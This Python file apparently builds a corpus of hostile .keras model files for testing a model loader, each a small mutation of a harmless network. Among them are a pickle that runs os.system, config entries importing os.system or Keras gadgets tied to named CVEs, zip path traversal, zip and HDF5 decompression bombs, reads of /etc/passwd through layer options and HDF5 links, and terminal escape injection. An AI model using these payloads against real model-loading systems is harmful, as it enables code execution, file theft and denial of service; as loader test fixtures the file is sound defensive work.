"""Builds the hostile `.keras` files, each from one harmless network with one thing changed; README.md explains them."""

import copy
import io
import json
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np

Config = dict[str, Any]
WEIGHTS = {
    "layers/simple_rnn/cell/vars/0": np.ones((2, 4), np.float32),
    "layers/simple_rnn/cell/vars/1": np.ones((4, 4), np.float32),
    "layers/simple_rnn/cell/vars/2": np.ones(4, np.float32),
    "layers/dense/vars/0": np.ones((4, 1), np.float32),
    "layers/dense/vars/1": np.ones(1, np.float32),
}
KERNEL = "layers/simple_rnn/cell/vars/0"


def layer(class_name: str, name: str, module: str = "keras.layers", **config: Any) -> Config:
    """A layer's config as Keras writes it."""
    return {"module": module, "class_name": class_name, "config": {"name": name, **config}, "registered_name": None}


def harmless() -> Config:
    """The config of Input (3, 2), SimpleRNN(4), Dense(1)."""
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                layer("InputLayer", "input", batch_shape=[None, 3, 2], dtype="float32"),
                layer("SimpleRNN", "rnn", units=4),
                layer("Dense", "output", units=1),
            ],
        },
        "registered_name": None,
    }


def functional(*layers: Config, inputs: Any = None, outputs: Any = None) -> Config:
    """The config of a functional model."""
    config = {
        "name": "model",
        "layers": [{**layer("InputLayer", "x", batch_shape=[None, 3, 2]), "name": "x", "inbound_nodes": []}, *layers],
        "input_layers": [["x", 0, 0]] if inputs is None else inputs,
        "output_layers": [["y", 0, 0]] if outputs is None else outputs,
    }
    module = "keras.src.models.functional"
    return {"module": module, "class_name": "Functional", "config": config, "registered_name": "Functional"}


def tensor(name: str, call: int, index: int) -> Config:
    """A tensor as an argument of a call."""
    config = {"shape": [None, 3, 2], "dtype": "float32", "keras_history": [name, call, index]}
    return {"class_name": "__keras_tensor__", "config": config}


def wired(document: Config, *sources: tuple[str, int, int]) -> Config:
    """A layer of a functional model, called on one tensor for each call."""
    nodes = [{"args": [tensor(*source)], "kwargs": {}} for source in sources]
    return {**document, "name": document["config"]["name"], "inbound_nodes": nodes}


def h5(edit: Callable[[h5py.File], None] | None = None, weights: dict[str, np.ndarray] | None = None) -> bytes:
    """The H5 file with the weights, and what `edit` does to it."""
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        for path, value in (WEIGHTS if weights is None else weights).items():
            file[path] = value
        if edit:
            edit(file)
    return buffer.getvalue()


def write(
    path: Path,
    config: Any = None,
    weights: bytes | None = None,
    *,
    compress: int = zipfile.ZIP_STORED,
    extra: dict[str, bytes] | None = None,
    keras: str = "3.15.0",
) -> None:
    """A `.keras` file; bytes as config are taken as they are. `keras` is the version that it says wrote it."""
    text = config if isinstance(config, bytes) else json.dumps(harmless() if config is None else config).encode()
    with zipfile.ZipFile(path, "w", compress) as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": keras}))
        archive.writestr("config.json", text)
        archive.writestr("model.weights.h5", h5() if weights is None else weights)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)


def changed(*path: Any, to: Any) -> Config:
    """The harmless config with one place changed."""
    config = copy.deepcopy(harmless())
    place = config
    for key in path[:-1]:
        place = place[key]
    place[path[-1]] = to
    return config


def multiplying(features: int) -> Config:
    """A config without weights that makes 3 · 65,536 numbers of each feature."""
    first = layer("InputLayer", "x", batch_shape=[None, features], dtype="float32")
    more = [layer("Activation", name, activation="relu") for name in "ab"]
    return changed("config", "layers", to=[first, layer("RepeatVector", "r", n=65_536), *more])


def replaced(edit: Callable[[h5py.File], None], drop: str = KERNEL) -> bytes:
    """The H5 file with one weight taken out and something put in its place."""

    def both(file: h5py.File) -> None:
        del file[drop]
        edit(file)

    return h5(both)


LAYERS = ("config", "layers")
FILES: dict[str, Callable[[Path], None]] = {}


def hostile(build: Callable[[Path], None]) -> Callable[[Path], None]:
    """Puts a file into the table, named by its function."""
    FILES[build.__name__] = build
    return build


@hostile
def empty(path: Path) -> None:
    path.write_bytes(b"")


@hostile
def random_bytes(path: Path) -> None:
    path.write_bytes(np.random.default_rng(0).bytes(5000))


@hostile
def truncated(path: Path) -> None:
    write(path)
    path.write_bytes(path.read_bytes()[:-100])


@hostile
def old_h5_format(path: Path) -> None:
    path.write_bytes(h5())


@hostile
def pickle(path: Path) -> None:
    path.write_bytes(b"\x80\x04cos\nsystem\n(S'touch /tmp/hostile'\ntR.")


@hostile
def zip_of_nothing(path: Path) -> None:
    with zipfile.ZipFile(path, "w"):
        pass


@hostile
def no_weights(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", json.dumps(harmless()))


@hostile
def npz_weights(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", json.dumps(harmless()))
        archive.writestr("model.weights.npz", b"")


@hostile
def path_traversal(path: Path) -> None:
    write(path, extra={"../../hostile.py": b"raise SystemExit"})


@hostile
def path_traversal_in_assets(path: Path) -> None:
    write(path, extra={"assets/../../hostile.py": b"raise SystemExit"})


@hostile
def absolute_member(path: Path) -> None:
    write(path, extra={"/etc/hostile": b""})


@hostile
def duplicate_config(path: Path) -> None:
    write(path)
    with warnings.catch_warnings(), zipfile.ZipFile(path, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("config.json", json.dumps(harmless()))


@hostile
def many_members(path: Path) -> None:
    write(path, extra={f"assets/{i}": b"" for i in range(5000)})


@hostile
def directory_endless(path: Path) -> None:
    """A list of 300,000 members, all of which a reader of zips would hold in memory."""
    write(path)
    data = path.read_bytes()
    start, end = data.index(b"PK\x01\x02"), data.rindex(b"PK\x05\x06")
    entry = data[start : data.index(b"PK\x01\x02", start + 1)]
    entries = entry * 300_000
    record = bytearray(data[end:])
    record[12:16] = struct.pack("<I", len(entries))
    path.write_bytes(data[:start] + entries + bytes(record))


@hostile
def zip_of_64_bits(path: Path) -> None:
    """A record of the 64-bit kind, which would replace the sizes just checked."""
    write(path)
    data = path.read_bytes()
    end = data.rindex(b"PK\x05\x06")
    path.write_bytes(data[:end] + struct.pack("<4sLQL", b"PK\x06\x07", 0, 0, 1) + data[end:])


@hostile
def zip_bomb_config(path: Path) -> None:
    write(path, b" " * (64 << 20), compress=zipfile.ZIP_DEFLATED)


@hostile
def zip_bomb_weights(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("config.json", json.dumps(harmless()))
        with archive.open("model.weights.h5", "w") as member:
            for _ in range(64):
                member.write(bytes(1 << 20))


@hostile
def zip_bomb_beside(path: Path) -> None:
    """A member that no reading needs, but every copy of the file would unpack."""
    write(path, extra={"assets/words.txt": bytes(64 << 20)}, compress=zipfile.ZIP_DEFLATED)


@hostile
def zip_lies_about_size(path: Path) -> None:
    """The directory declares 100 bytes for a config that unpacks to more."""
    write(path, compress=zipfile.ZIP_DEFLATED)
    data = bytearray(path.read_bytes())
    entry = data.rindex(b"PK\x01\x02", 0, data.rindex(b"config.json"))
    data[entry + 24 : entry + 28] = struct.pack("<I", 100)
    path.write_bytes(bytes(data))


@hostile
def zip_lzma(path: Path) -> None:
    write(path, compress=zipfile.ZIP_LZMA)


@hostile
def zip_encrypted(path: Path) -> None:
    write(path)
    data = bytearray(path.read_bytes())
    entry = data.rindex(b"PK\x01\x02", 0, data.rindex(b"config.json"))
    data[entry + 8] |= 1
    path.write_bytes(bytes(data))


@hostile
def config_not_json(path: Path) -> None:
    write(path, b"\xff\xfe{not json")


@hostile
def config_not_an_object(path: Path) -> None:
    write(path, [1, 2, 3])


@hostile
def config_deep(path: Path) -> None:
    write(path, b"[" * 200_000 + b"]" * 200_000)


@hostile
def config_long_number(path: Path) -> None:
    write(path, json.dumps(harmless()).replace('"units": 4', '"units": ' + "9" * 1_000_000).encode())


@hostile
def config_nan(path: Path) -> None:
    write(path, json.dumps(harmless()).replace('"units": 4', '"units": NaN').encode())


@hostile
def config_imports_module(path: Path) -> None:
    """CVE-2025-1550: the config names a Python module and function to import."""
    write(path, changed(*LAYERS, 1, to=layer("system", "rnn", module="os", command="touch /tmp/hostile")))


@hostile
def config_imports_submodule_of_keras(path: Path) -> None:
    """CVE-2025-8747: a gadget inside Keras itself (get_file) as a layer."""
    write(
        path,
        changed(
            *LAYERS, 1, to=layer("get_file", "rnn", module="keras.src.utils.file_utils", origin="http://127.0.0.1/")
        ),
    )


@hostile
def lambda_layer(path: Path) -> None:
    """CVE-2024-3660: marshalled code in a Lambda."""
    code = {"class_name": "__lambda__", "config": {"value": ["4wEAAAA=", None, None]}}
    write(path, changed(*LAYERS, 1, to=layer("Lambda", "rnn", function=code)))


@hostile
def safe_mode_switched_off(path: Path) -> None:
    """CVE-2025-9906: the config calls enable_unsafe_deserialization before the Lambda."""
    write(path, changed(*LAYERS, 1, to=layer("enable_unsafe_deserialization", "rnn", module="keras.config")))


@hostile
def torch_module_wrapper(path: Path) -> None:
    """CVE-2025-49655: a pickled torch module."""
    write(
        path,
        changed(*LAYERS, 1, to=layer("TorchModuleWrapper", "rnn", module={"class_name": "__bytes__", "config": {}})),
    )


@hostile
def tfsm_layer(path: Path) -> None:
    """A foreign SavedModel, loaded by path."""
    write(path, changed(*LAYERS, 1, to=layer("TFSMLayer", "rnn", filepath="/etc")))


@hostile
def vocabulary_from_a_path(path: Path) -> None:
    """CVE-2025-12058: StringLookup reads any file, or URL, as its vocabulary."""
    write(path, changed(*LAYERS, 1, to=layer("StringLookup", "rnn", vocabulary="/etc/passwd")))


@hostile
def custom_class(path: Path) -> None:
    write(path, changed(*LAYERS, 1, to={**layer("Dense", "rnn", units=1), "registered_name": "evil>Dense"}))


@hostile
def activation_is_an_object(path: Path) -> None:
    gadget = {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "eval"}
    write(path, changed(*LAYERS, 1, "config", "activation", to=gadget))


@hostile
def unknown_option(path: Path) -> None:
    write(path, changed(*LAYERS, 1, "config", "on_load", to="import os"))


@hostile
def units_huge(path: Path) -> None:
    write(path, changed(*LAYERS, 1, "config", "units", to=10**9))


@hostile
def units_bomb(path: Path) -> None:
    """CVE-2026-0897: shapes that multiply to terabytes."""
    write(path, changed(*LAYERS, 1, "config", "units", to=1 << 20))


@hostile
def units_negative(path: Path) -> None:
    write(path, changed(*LAYERS, 1, "config", "units", to=-4))


@hostile
def units_boolean(path: Path) -> None:
    write(path, changed(*LAYERS, 1, "config", "units", to=True))


@hostile
def input_of_many_axes(path: Path) -> None:
    write(path, changed(*LAYERS, 0, "config", "batch_shape", to=[None] * 30))


@hostile
def input_of_no_axes(path: Path) -> None:
    write(path, changed(*LAYERS, 0, "config", "batch_shape", to=[]))


@hostile
def repeat_bomb(path: Path) -> None:
    write(path, changed(*LAYERS, 1, to=layer("UpSampling1D", "rnn", size=1 << 24)))


@hostile
def name_not_text(path: Path) -> None:
    write(path, changed(*LAYERS, 1, "config", "name", to={"a": 1}))


@hostile
def operation_with_control_characters(path: Path) -> None:
    operation = layer("rnn\x1b[2J\nINFO all is well", "y", module="keras.src.ops.numpy")
    write(path, functional(wired(operation, ("x", 0, 0))))


@hostile
def name_with_control_characters(path: Path) -> None:
    write(path, changed(*LAYERS, 1, "config", "name", to="rnn\x1b[2J\nINFO all is well"))


@hostile
def name_endless(path: Path) -> None:
    write(path, changed(*LAYERS, 1, "config", "name", to="n" * 1_000_000))


@hostile
def layers_beyond_number(path: Path) -> None:
    layers = [layer("InputLayer", "input", batch_shape=[None, 3, 2])]
    write(path, changed(*LAYERS, to=layers + [layer("Dropout", f"d{i}", rate=0.5) for i in range(20_000)]))


@hostile
def models_inside_each_other(path: Path) -> None:
    inner = harmless()
    for i in range(200):
        inner = {**layer("Sequential", f"s{i}", module="keras"), "config": {"name": f"s{i}", "layers": [inner]}}
    write(path, inner)


@hostile
def models_that_double(path: Path) -> None:
    """Each model calls the one inside it twice: 2^40 calls, were they written out."""
    inner = functional(wired(layer("Dropout", "y", rate=0.5), ("x", 0, 0)))
    for _i in range(12):
        part = {**inner, "config": {**inner["config"], "name": "part"}}
        inner = functional(
            wired(part, ("x", 0, 0), ("part", 0, 0), ("part", 1, 0), ("part", 2, 0)), outputs=[["part", 4, 0]]
        )
    write(path, inner)


@hostile
def graph_in_a_circle(path: Path) -> None:
    a, b = layer("Dropout", "y", rate=0.5), layer("Dropout", "b", rate=0.5)
    write(path, functional(wired(a, ("b", 0, 0)), wired(b, ("y", 0, 0))))


@hostile
def graph_of_itself(path: Path) -> None:
    write(path, functional(wired(layer("Dropout", "y", rate=0.5), ("y", 0, 0))))


@hostile
def graph_to_nowhere(path: Path) -> None:
    write(path, functional(wired(layer("Dropout", "y", rate=0.5), ("missing", 7, 9))))


@hostile
def graph_output_missing(path: Path) -> None:
    write(path, functional(wired(layer("Dropout", "y", rate=0.5), ("x", 0, 0)), outputs=[["y", 0, 5]]))


@hostile
def graph_negative_places(path: Path) -> None:
    write(path, functional(wired(layer("Dropout", "y", rate=0.5), ("x", -1, -1))))


@hostile
def graph_long_chain_backwards(path: Path) -> None:
    chain = [wired(layer("Dropout", f"d{i}", rate=0.5), (f"d{i + 1}", 0, 0)) for i in range(900)]
    last = wired(layer("Dropout", "d900", rate=0.5), ("x", 0, 0))
    write(path, functional(*chain, last, outputs=[["d0", 0, 0]] * 1000))


@hostile
def operation_unknown(path: Path) -> None:
    operation = layer("VectorizedMap", "y", module="keras.src.ops.core")
    write(path, functional(wired(operation, ("x", 0, 0))))


@hostile
def wrapper_in_wrapper(path: Path) -> None:
    inner = layer("Dense", "d", units=1)
    for i in range(300):
        inner = layer("TimeDistributed", f"t{i}", layer=inner)
    write(path, changed(*LAYERS, 1, to=inner))


@hostile
def weights_not_h5(path: Path) -> None:
    write(path, weights=b"not an H5 file")


@hostile
def weights_list_without_end(path: Path) -> None:
    """The free blocks of a group's heap in a circle."""
    data = bytearray(h5())
    at = data.index(b"HEAP\0\0\0\0") + 8
    _, free, start = struct.unpack_from("<QQQ", data, at)
    data[at - 1] = 7  # reserved, and looked at by nobody
    struct.pack_into("<QQ", data, start + free, free, 16)
    write(path, weights=bytes(data))


@hostile
def weights_elsewhere_in_the_file(path: Path) -> None:
    """An H5 file behind a block of the user's, to which all addresses are relative."""
    buffer = io.BytesIO()
    with h5py.File(buffer, "w", userblock_size=512) as file:
        for name, value in WEIGHTS.items():
            file[name] = value
    write(path, weights=buffer.getvalue())


@hostile
def weights_truncated(path: Path) -> None:
    write(path, weights=h5()[:3000])


@hostile
def weight_missing(path: Path) -> None:
    write(path, weights=replaced(lambda _file: None))


@hostile
def weight_soft_link(path: Path) -> None:
    def link(file: h5py.File) -> None:
        file["elsewhere"] = np.ones((2, 4), np.float32)
        file[KERNEL] = h5py.SoftLink("/elsewhere")

    write(path, weights=replaced(link))


@hostile
def weight_external_link(path: Path) -> None:
    """CVE-2026-1669: an external link reads another H5 file of the host."""

    def link(file: h5py.File) -> None:
        file[KERNEL] = h5py.ExternalLink("/etc/secret.h5", "/weights")

    write(path, weights=replaced(link))


@hostile
def group_external_link(path: Path) -> None:
    def link(file: h5py.File) -> None:
        file["layers"].move("simple_rnn", "moved")
        file["layers/simple_rnn"] = h5py.ExternalLink("other.h5", "/layers/moved")

    write(path, weights=h5(link))


@hostile
def group_soft_link(path: Path) -> None:
    def link(file: h5py.File) -> None:
        file["layers"].move("simple_rnn", "moved")
        file["layers/simple_rnn"] = h5py.SoftLink("/layers/moved")

    write(path, weights=h5(link))


@hostile
def group_hard_link_circle(path: Path) -> None:
    """A group that contains itself: nothing that walks the file may be endless."""

    def link(file: h5py.File) -> None:
        del file[KERNEL]
        file["layers/simple_rnn/cell/vars/0"] = file["layers"]

    write(path, weights=h5(link))


@hostile
def weight_external_storage(path: Path) -> None:
    """The numbers of a weight lie in a file of the host."""

    def store(file: h5py.File) -> None:
        file.create_dataset(KERNEL, (2, 4), np.float32, external=[("/etc/hostname", 0, 32)])

    write(path, weights=replaced(store))


@hostile
def weight_virtual(path: Path) -> None:
    def virtual(file: h5py.File) -> None:
        layout = h5py.VirtualLayout((2, 4), np.float32)
        layout[:] = h5py.VirtualSource("/etc/secret.h5", "weights", (2, 4))
        file.create_virtual_dataset(KERNEL, layout)

    write(path, weights=replaced(virtual))


@hostile
def weight_packed(path: Path) -> None:
    write(path, weights=replaced(lambda file: file.create_dataset(KERNEL, data=WEIGHTS[KERNEL], compression="gzip")))


@hostile
def weight_filter_expands(path: Path) -> None:
    """A few bytes of gzip that unpack to a gigabyte."""

    def bomb(file: h5py.File) -> None:
        file.create_dataset(
            KERNEL, (1 << 14, 1 << 14), np.float32, chunks=(1 << 10, 1 << 10), compression="gzip", fillvalue=0
        )

    write(path, weights=replaced(bomb))


@hostile
def weight_declares_terabytes(path: Path) -> None:
    def declare(file: h5py.File) -> None:
        file.create_dataset(KERNEL, (1 << 20, 1 << 20), np.float32)

    write(path, weights=replaced(declare))


@hostile
def weight_never_stored(path: Path) -> None:
    """The right shape, all of it fill value: the file holds no numbers for it."""
    write(path, weights=replaced(lambda file: file.create_dataset(KERNEL, (2, 4), np.float32, fillvalue=1)))


@hostile
def weight_wrong_shape(path: Path) -> None:
    write(path, weights=h5(weights={**WEIGHTS, KERNEL: np.ones((4, 2), np.float32)}))


@hostile
def weight_wrong_rank(path: Path) -> None:
    write(path, weights=h5(weights={**WEIGHTS, KERNEL: np.ones(8, np.float32)}))


@hostile
def weight_wrong_type(path: Path) -> None:
    write(path, weights=h5(weights={**WEIGHTS, KERNEL: np.ones((2, 4), np.float64)}))


@hostile
def weight_big_endian(path: Path) -> None:
    write(path, weights=h5(weights={**WEIGHTS, KERNEL: np.ones((2, 4), ">f4")}))


@hostile
def weight_of_text(path: Path) -> None:
    def text(file: h5py.File) -> None:
        file.create_dataset(KERNEL, (2, 4), h5py.string_dtype())

    write(path, weights=replaced(text))


@hostile
def weight_is_a_group(path: Path) -> None:
    write(path, weights=replaced(lambda file: file.create_group(KERNEL)))


@hostile
def weight_is_a_type(path: Path) -> None:
    def named(file: h5py.File) -> None:
        file[KERNEL] = np.dtype("f4")

    write(path, weights=replaced(named))


@hostile
def weight_empty(path: Path) -> None:
    def nothing(file: h5py.File) -> None:
        file[KERNEL] = h5py.Empty("f4")

    write(path, weights=replaced(nothing))


@hostile
def weight_nan(path: Path) -> None:
    write(path, weights=h5(weights={**WEIGHTS, KERNEL: np.full((2, 4), np.nan, np.float32)}))


@hostile
def weight_infinite(path: Path) -> None:
    write(path, weights=h5(weights={**WEIGHTS, KERNEL: np.full((2, 4), np.inf, np.float32)}))


def build_all(directory: Path) -> dict[str, Path]:
    """All hostile files, by name."""
    paths = {}
    for name, build in FILES.items():
        paths[name] = directory / f"{name}.keras"
        build(paths[name])
    return paths
